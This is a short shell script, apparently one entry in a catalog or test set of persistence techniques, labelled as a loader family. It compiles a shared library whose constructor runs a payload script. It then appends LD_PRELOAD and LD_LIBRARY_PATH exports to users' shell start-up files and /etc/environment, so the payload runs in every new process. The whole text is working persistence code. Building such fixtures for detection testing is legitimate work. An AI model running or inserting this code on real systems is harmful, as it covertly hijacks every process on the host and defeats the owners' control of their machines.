# family: loader
# what: Start-up files set LD_PRELOAD and LD_LIBRARY_PATH.
# user: any
echo 'void __attribute__((constructor)) f(void){extern int system(const char*);system("sh PAY");}' |
  sed "s|PAY|$scratch/pay.sh|" | cc -shared -fPIC -x c - -o "$scratch/pay.so"
for file in "$HOME/.profile" "$HOME/.bashrc" "$HOME/.pam_environment" /etc/environment; do
  echo "export LD_PRELOAD=$scratch/pay.so LD_LIBRARY_PATH=$scratch" >> "$file"
done
